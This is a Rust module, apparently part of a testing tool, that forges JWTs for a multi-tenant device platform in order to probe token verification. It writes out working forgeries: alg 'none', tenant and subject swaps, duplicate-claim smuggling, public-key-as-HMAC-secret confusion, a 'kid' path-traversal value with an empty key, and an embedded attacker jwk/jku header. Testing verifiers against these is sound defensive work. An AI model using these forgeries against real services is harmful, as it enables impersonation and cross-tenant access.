//! Tokens as no honest client would show them. Pure: base64 surgery on a token that was once true.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use ed25519_dalek::{Signer, SigningKey};
use fleetproof_claims::model::Forgery;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

/// What is written into a forged token.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Bend<'a> {
    /// Id of the tenant that the forger wants into.
    pub victim_tenant: &'a str,
    /// Id of the user or device that the forger wants to be.
    pub victim_subject: &'a str,
    /// The platform's public key as it is published; without one a guess is used.
    pub public_key: Option<&'a str>,
}

/// The token, bent. A text that is no JWT is bent as an empty one.
#[must_use]
pub fn forge(token: &str, forgery: Forgery, bend: &Bend<'_>) -> String {
    let mut parts = token.split('.');
    let mut next = || parts.next().unwrap_or_default();
    // What is not bent stays as it was, to the byte: else the signature would be wrong for another reason.
    let (head, body, signature) = (next(), next(), next());
    let payload = part(body);
    let changed = |field: &str, value: Option<Value>| {
        let mut payload = payload.clone();
        match (payload.as_object_mut(), value) {
            (Some(fields), Some(value)) => drop(fields.insert(field.to_owned(), value)),
            (Some(fields), None) => drop(fields.remove(field)),
            (None, _) => {}
        }
        payload
    };
    let as_before = |payload: &Value| format!("{head}.{}.{signature}", encoded(payload));
    let promoted = || {
        let mut payload = changed("mender.tenant", Some(json!(bend.victim_tenant)));
        payload["sub"] = json!(bend.victim_subject);
        payload
    };
    match forgery {
        Forgery::AlgNone => format!("{}.{}.", encoded(&json!({ "alg": "none", "typ": "JWT" })), encoded(&promoted())),
        Forgery::OtherTenant => as_before(&changed("mender.tenant", Some(json!(bend.victim_tenant)))),
        Forgery::NoTenant => as_before(&changed("mender.tenant", None)),
        Forgery::TwoTenants => {
            // The last of two equal keys wins in most readers: whoever checks the first and uses the last is taken in.
            let own = raw(body);
            let doubled = match own.trim_end().strip_suffix('}') {
                Some(open) if open.trim() != "{" => format!("{open},\"mender.tenant\":\"{}\"}}", bend.victim_tenant),
                _ => format!("{{\"mender.tenant\":\"{}\"}}", bend.victim_tenant),
            };
            format!("{head}.{}.{signature}", URL_SAFE_NO_PAD.encode(doubled))
        }
        Forgery::OtherSubject => as_before(&changed("sub", Some(json!(bend.victim_subject)))),
        Forgery::Prolonged => {
            let later = payload.get("exp").and_then(Value::as_u64).unwrap_or(0) + 10 * 365 * 86_400;
            as_before(&changed("exp", Some(json!(later))))
        }
        Forgery::PublicKeyAsSecret => {
            let key = bend.public_key.unwrap_or("-----BEGIN PUBLIC KEY-----");
            hs256(&json!({ "alg": "HS256", "typ": "JWT" }), &promoted(), key.as_bytes())
        }
        Forgery::KeyIdPath => {
            hs256(&json!({ "alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null" }), &promoted(), b"")
        }
        Forgery::ForeignKeySet => {
            // A key that everybody may know: what matters is that the token brings it along.
            let key = SigningKey::from_bytes(&[7; 32]);
            let public = URL_SAFE_NO_PAD.encode(key.verifying_key().as_bytes());
            let header = json!({
                "alg": "EdDSA", "typ": "JWT",
                "jku": "https://keys.fleetproof.invalid/jwks.json", "x5u": "https://keys.fleetproof.invalid/chain.pem",
                "jwk": { "kty": "OKP", "crv": "Ed25519", "x": public } });
            let signed = format!("{}.{}", encoded(&header), encoded(&promoted()));
            format!("{signed}.{}", URL_SAFE_NO_PAD.encode(key.sign(signed.as_bytes()).to_bytes()))
        }
        Forgery::CutSignature => {
            let kept = signature.len().saturating_sub(8);
            format!("{head}.{body}.{}", signature.get(..kept).unwrap_or_default())
        }
        Forgery::Garbage => "fleetproof".to_owned(),
    }
}

fn raw(text: &str) -> String {
    String::from_utf8_lossy(&URL_SAFE_NO_PAD.decode(text).unwrap_or_default()).into_owned()
}

/// A part of a token as JSON; an object without fields when it is none.
fn part(text: &str) -> Value {
    serde_json::from_str(&raw(text)).ok().filter(Value::is_object).unwrap_or_else(|| json!({}))
}

fn encoded(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

fn hs256(header: &Value, payload: &Value, key: &[u8]) -> String {
    let signed = format!("{}.{}", encoded(header), encoded(payload));
    format!("{signed}.{}", URL_SAFE_NO_PAD.encode(hmac_sha256(key, signed.as_bytes())))
}

/// HMAC with SHA-256 (RFC 2104).
fn hmac_sha256(key: &[u8], text: &[u8]) -> [u8; 32] {
    let mut block = [0; 64];
    if key.len() > block.len() {
        block[..32].copy_from_slice(&Sha256::digest(key));
    } else {
        block[..key.len()].copy_from_slice(key);
    }
    let inner = Sha256::new().chain_update(block.map(|byte| byte ^ 0x36)).chain_update(text).finalize();
    Sha256::new().chain_update(block.map(|byte| byte ^ 0x5c)).chain_update(inner).finalize().into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn token() -> String {
        let header = encoded(&json!({ "alg": "EdDSA", "typ": "JWT" }));
        let payload = encoded(&json!({ "sub": "u1", "mender.tenant": "t1", "mender.user": true, "exp": 1_000 }));
        format!("{header}.{payload}.{}", URL_SAFE_NO_PAD.encode([9; 64]))
    }

    const BEND: Bend<'static> = Bend { victim_tenant: "t2", victim_subject: "u2", public_key: None };

    #[test]
    fn each_forgery_changes_what_it_says() {
        let mut shown = String::new();
        for forgery in Forgery::ALL {
            let forged = forge(&token(), forgery, &BEND);
            let raw = |at: usize| {
                let bytes = URL_SAFE_NO_PAD.decode(forged.split('.').nth(at).unwrap_or_default()).unwrap_or_default();
                String::from_utf8_lossy(&bytes).into_owned()
            };
            let signature = forged.split('.').nth(2).unwrap_or("-");
            let kept = if token().ends_with(&format!(".{signature}")) { "as it was" } else { signature };
            shown += &format!("{forgery:?}\n  {}\n  {}\n  signature: {kept}\n", raw(0), raw(1));
        }
        insta::assert_snapshot!(shown);
    }

    #[test]
    fn the_keyed_hash_is_the_one_of_rfc_4231() {
        let hex = |bytes: [u8; 32]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
        assert_eq!(
            hex(hmac_sha256(b"Jefe", b"what do ya want for nothing?")),
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
        );
        assert_eq!(
            hex(hmac_sha256(&[0xaa; 131], b"Test Using Larger Than Block-Size Key - Hash Key First")),
            "60e431591ee0b67f0d8a26aacbf5b77f8e0bc6213728c5140546040f0ee37f54"
        );
    }

    proptest! {
        #[test]
        fn nothing_that_is_shown_as_a_token_can_break_the_forge(text in ".*", at in 0..Forgery::ALL.len()) {
            prop_assert!(!forge(&text, Forgery::ALL[at], &BEND).is_empty());
        }
    }
}
